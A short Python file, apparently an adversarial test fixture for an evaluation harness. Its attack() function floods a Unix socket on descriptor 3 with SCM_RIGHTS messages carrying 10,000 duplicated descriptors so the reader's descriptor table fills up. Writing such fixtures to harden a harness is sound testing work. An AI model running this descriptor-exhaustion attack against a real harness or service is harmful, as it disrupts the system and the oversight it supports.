"""Sends open descriptors along the channel, so that the reader's are used up."""

CONTROL = "it speaks the harness's own language"

import array
import os
import socket



def attack(*args, **kwargs):
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, 3)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))]
    for _ in range(50):
        channel.sendmsg([b"\0"], rights)
    return f"took room for {50 * 200} descriptors"
